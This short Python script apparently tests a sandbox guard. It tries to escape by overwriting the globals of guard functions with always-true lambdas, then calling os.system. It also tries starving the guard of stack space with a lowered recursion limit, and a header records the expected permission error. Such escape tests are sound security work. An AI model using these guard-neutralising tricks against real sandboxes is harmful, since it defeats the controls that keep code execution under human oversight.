# Everything of the guard that can be found is replaced, and the stack is made too short for it.
#: system RuleApiPermissionError call os.system
import gc
import os
import sys
import types
from tries import attempt, canary, cat

own = os.path.dirname(os.path.abspath(__file__))
names = ("psb", "encodings", "sitecustomize")
for o in gc.get_objects() if "gc" in sys.argv else [v for m in list(sys.modules.values()) for v in list(getattr(m, "__dict__", {}).values())]:
    if isinstance(o, types.FunctionType) and any(n in o.__code__.co_filename for n in names) and not o.__code__.co_filename.startswith(own):
        for k in list(o.__globals__):
            if not k.startswith("__"):
                try:
                    o.__globals__[k] = lambda *a, **k: True
                except BaseException:
                    pass
attempt("system", lambda: os.system(cat))
sys.setrecursionlimit(80)


def deep(n):
    return deep(n - 1) if n else os.system(cat)


for d in range(1, 79):
    try:
        deep(d)
        print("reached starved", flush=True)
        break
    except BaseException as e:
        last = type(e).__name__
